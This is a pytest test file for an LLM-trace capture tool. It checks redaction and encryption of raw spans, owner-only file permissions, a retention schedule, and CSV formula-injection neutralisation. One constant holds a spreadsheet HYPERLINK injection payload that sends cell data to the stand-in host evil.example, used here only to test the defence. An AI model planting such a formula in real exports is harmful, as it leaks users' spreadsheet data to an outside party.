"""Data at rest (issue 9, item 6): raw spans written redacted or encrypted, expired by a schedule that really
runs; the data directory, store and raw files owner-only; CSV exports that a spreadsheet will not execute."""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import stat
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import dagster as dg
import pytest
from cryptography.fernet import Fernet

from evalforge_assets.capture.malformed import MalformedItem
from evalforge_assets.cli.captures import write_captures
from evalforge_assets.csv_cells import neutralize_cell
from evalforge_assets.definitions import build_definitions
from evalforge_assets.defs.io_managers import RawSpansIOManager, decode_items
from evalforge_assets.exports.deterministic import DeterministicArtifactGenerator
from evalforge_assets.exports.files import eval_case_files
from evalforge_assets.runtime import prepare_dagster_home
from evalforge_assets.store import open_store
from tests.fixtures.factories import make_capture
from tests.integration.dagster_helpers import capture_settings, run_capture

HOUR, NEXT_HOUR = "2026-03-02-10:00", "2026-03-02-11:00"
HOUR_NS = 1772445600 * 10**9
CANARIES = ("erin.canary@example.com", "4111 1111 1111 1111", "u-canary-77")
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def span(n: int, user: str, hour_offset: int = 0) -> dict[str, Any]:
    return {"id": f"s{n}", "type": "span", "attributes": {
        "span_id": f"s{n}", "trace_id": f"t{n:04d}", "name": "support_agent", "span_kind": "agent",
        "ml_app": "support-bot", "start_ns": HOUR_NS + hour_offset * 3600 * 10**9 + n * 10**9, "status": "error",
        "input": {"value": f"I am erin.canary@example.com, card 4111 1111 1111 1111 (n={n})"},
        "tags": ["env:prod", "error:1", "error_type:ToolTimeoutError", f"user_id:{user}"]}}


@pytest.fixture
def export(tmp_path: Path) -> Path:
    items = [span(1, "u-canary-77"), span(2, "u-canary-77"), span(3, "u-other-88"), span(4, "u-other-88", 1)]
    path = tmp_path / "export.jsonl"
    path.write_text("".join(json.dumps(item) + "\n" for item in items))
    return path


@pytest.fixture
def wide_umask() -> Iterator[None]:
    previous = os.umask(0o022)  # the usual default, under which files used to come out 0644 and folders 0755
    try:
        yield
    finally:
        os.umask(previous)


def raw_files(home: Path) -> list[Path]:
    return sorted(p for p in (home / "raw_spans").rglob("*") if p.is_file())


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


# ---- raw spans: redacted by default ------------------------------------------------------------------------------


def test_raw_files_are_redacted_and_users_keep_distinct_stable_pseudonyms(tmp_path: Path, export: Path) -> None:
    store = open_store(f"sqlite:///{tmp_path / 'store.db'}")
    assert run_capture(capture_settings(tmp_path, store.url, source=str(export)), HOUR).success
    [raw] = raw_files(tmp_path)
    assert raw.name.endswith(".jsonl.gz")
    text = gzip.decompress(raw.read_bytes()).decode()
    for canary in CANARIES:
        assert canary not in text
    assert "<EMAIL>" in text
    captures = list(store.iter_captures())
    # What the raw layer removed is still reported on the capture, as before raw files were redacted.
    assert all(c.pii.get("EMAIL") == 1 and c.pii.get("USER_ID") == 1 for c in captures), [c.pii for c in captures]
    assert all("erin.canary" not in c.input_text and "<EMAIL>" in c.input_text for c in captures)
    hashes = {c.source.span_id: c.user_hash for c in captures}
    assert set(hashes) == {"s1", "s2", "s3"}
    assert hashes["s1"] == hashes["s2"] != hashes["s3"]
    assert all(hashes.values())


def test_a_span_past_the_bounds_is_kept_as_a_short_redacted_malformed_item(tmp_path: Path) -> None:
    deep: Any = "erin.canary@example.com"
    for _ in range(600):
        deep = [deep]
    manager = RawSpansIOManager(base_dir=str(tmp_path))
    items = decode_items(manager.protect(HOUR, [span(1, "u-1"), {"attributes": {"metadata": deep}}]))
    assert isinstance(items[0], dict) and isinstance(items[1], MalformedItem)
    assert "nested more than" in items[1].reason and "erin.canary" not in items[1].raw_text


# ---- raw spans: encrypted with a key from settings ----------------------------------------------------------------


def test_with_a_key_raw_files_are_encrypted_and_still_read_back(tmp_path: Path, export: Path,
                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    key = Fernet.generate_key().decode()
    monkeypatch.setenv("EVALFORGE_RAW_ENCRYPTION_KEY", key)  # resources take secrets as EnvVar
    store = open_store(f"sqlite:///{tmp_path / 'store.db'}")
    settings = capture_settings(tmp_path, store.url, source=str(export), EVALFORGE_RAW_ENCRYPTION_KEY=key)
    assert run_capture(settings, HOUR).success
    [raw] = raw_files(tmp_path)
    assert raw.name.endswith(".jsonl.gz.fernet")
    data = raw.read_bytes()
    assert not data.startswith(b"\x1f\x8b")  # not even gzip: nothing readable without the key
    items = decode_items(Fernet(key.encode()).decrypt(data))
    assert "u-canary-77" in json.dumps(items)  # verbatim under encryption, so re-processing loses nothing
    assert store.count_captures() == 3


def test_a_raw_file_read_with_the_wrong_key_or_no_key_fails_with_a_sentence(tmp_path: Path) -> None:
    writer = RawSpansIOManager(base_dir=str(tmp_path), encryption_key=Fernet.generate_key().decode())
    path = tmp_path / "raw_llm_spans" / "2026-03-02-1000.jsonl.gz.fernet"
    path.parent.mkdir(parents=True)
    path.write_bytes(writer.protect(HOUR, [span(1, "u-1")]))
    assert writer.load_partition("raw_llm_spans", HOUR)[0]["id"] == "s1"
    with pytest.raises(dg.Failure, match="another key"):
        RawSpansIOManager(base_dir=str(tmp_path), encryption_key=Fernet.generate_key().decode()) \
            .load_partition("raw_llm_spans", HOUR)
    with pytest.raises(dg.Failure, match="EVALFORGE_RAW_ENCRYPTION_KEY is not set"):
        RawSpansIOManager(base_dir=str(tmp_path)).load_partition("raw_llm_spans", HOUR)
    with pytest.raises(dg.Failure, match="not a Fernet key"):
        RawSpansIOManager(base_dir=str(tmp_path), encryption_key="short").protect(HOUR, [])


# ---- owner-only files ---------------------------------------------------------------------------------------------


def test_data_directory_store_and_raw_files_are_owner_only(tmp_path: Path, export: Path, wide_umask: None) -> None:
    home = tmp_path / "home"
    settings = capture_settings(home, f"sqlite:///{home / 'evalforge.db'}", source=str(export))
    prepare_dagster_home(settings)
    assert run_capture(settings, HOUR).success
    assert mode(home) == 0o700 and mode(settings.dagster_home) == 0o700
    assert mode(home / "raw_spans") == 0o700 and mode(home / "raw_spans" / "raw_llm_spans") == 0o700
    for raw in raw_files(home):
        assert mode(raw) == 0o600, raw
    store = open_store(settings.resolved_store_url)  # -wal and -shm exist while a connection is open
    store.save_captures([make_capture(capture_id="cap-open")])
    database = [home / "evalforge.db", home / "evalforge.db-wal", home / "evalforge.db-shm"]
    assert all(path.exists() for path in database)
    assert [mode(path) for path in database] == [0o600, 0o600, 0o600]


def test_an_existing_world_readable_store_is_tightened_when_opened(tmp_path: Path, wide_umask: None) -> None:
    path = tmp_path / "old.db"
    open_store(f"sqlite:///{path}").close()
    os.chmod(path, 0o644)
    open_store(f"sqlite:///{path}").close()
    assert mode(path) == 0o600


# ---- retention: the schedule really evaluated, its job really run --------------------------------------------------


def test_the_retention_schedule_deletes_raw_files_older_than_the_retention_period(tmp_path: Path,
                                                                                  export: Path) -> None:
    store = open_store(f"sqlite:///{tmp_path / 'store.db'}")
    settings = capture_settings(tmp_path, store.url, source=str(export), EVALFORGE_RAW_RETENTION_HOURS="48")
    assert run_capture(settings, HOUR, NEXT_HOUR).success
    old, recent = raw_files(tmp_path)
    now = datetime.now(UTC).replace(minute=30, second=0, microsecond=0)
    written_long_ago = (now - timedelta(hours=49)).timestamp()
    os.utime(old, (written_long_ago, written_long_ago))
    os.utime(recent, (time.time(), time.time()))

    defs = build_definitions(settings)
    schedule = defs.get_schedule_def("raw_retention_schedule")
    assert schedule.default_status == dg.DefaultScheduleStatus.RUNNING
    with dg.DagsterInstance.ephemeral() as instance:
        context = dg.build_schedule_context(instance=instance, scheduled_execution_time=now)
        [request] = schedule.evaluate_tick(context).run_requests
        assert request.run_config["ops"]["expire_raw_spans"]["config"]["written_before"] == \
            (now - timedelta(hours=48)).isoformat()
        result = defs.resolve_job_def("raw_retention_job").execute_in_process(
            run_config=request.run_config, instance=instance)
    assert result.success
    assert result.output_for_node("expire_raw_spans") == [str(old)]
    assert raw_files(tmp_path) == [recent]
    # Reading the expired hour again says what happened and what to do.
    with pytest.raises(dg.Failure, match="expired after EVALFORGE_RAW_RETENTION_HOURS"):
        RawSpansIOManager(base_dir=str(settings.raw_spans_dir)).load_partition("raw_llm_spans", HOUR)


def test_retention_defaults_to_72_hours() -> None:
    from evalforge_assets.settings import Settings

    assert Settings.of().raw_retention_hours == 72


# ---- CSV injection -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx", INJECTION])
def test_cells_a_spreadsheet_would_run_get_a_leading_quote(cell: str) -> None:
    assert neutralize_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["plain text", "", " =not first", "a=b", 42, None])
def test_other_cells_are_unchanged(cell: Any) -> None:
    assert neutralize_cell(cell) == cell


def test_captures_export_csv_neutralizes_formulas(tmp_path: Path) -> None:
    out = io.StringIO()
    write_captures([make_capture(capture_id="cap-x", input_text=INJECTION, error_message="-1 items left")],
                   out, "csv")
    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["input_text"] == "'" + INJECTION
    assert row["error_message"] == "'-1 items left"
    assert row["capture_id"] == "cap-x"


def test_the_captures_export_command_writes_neutralized_csv(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from click.testing import CliRunner

    from evalforge_assets.cli import main

    monkeypatch.setenv("EVALFORGE_HOME", str(tmp_path / "home"))
    store = open_store(f"sqlite:///{tmp_path / 'store.db'}")
    store.save_captures([make_capture(capture_id="cap-y", output_text=INJECTION)])
    store.close()
    out = tmp_path / "captures.csv"
    result = CliRunner().invoke(main, ["captures", "export", "--store", f"sqlite:///{tmp_path / 'store.db'}",
                                       "--format", "csv", "--out", str(out)])
    assert result.exit_code == 0, result.output
    [row] = list(csv.DictReader(out.open(newline="")))
    assert row["output_text"] == "'" + INJECTION


def test_eval_case_csv_neutralizes_formulas() -> None:
    capture = make_capture(capture_id="cap-z", input_text=INJECTION, error_type="@evil")
    case = DeterministicArtifactGenerator().eval_case(capture, None)
    _jsonl, table = eval_case_files("exp-1", [case])
    [row] = list(csv.DictReader(io.StringIO(table.content.decode())))
    assert row["error_type"] == "'@evil"
    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())
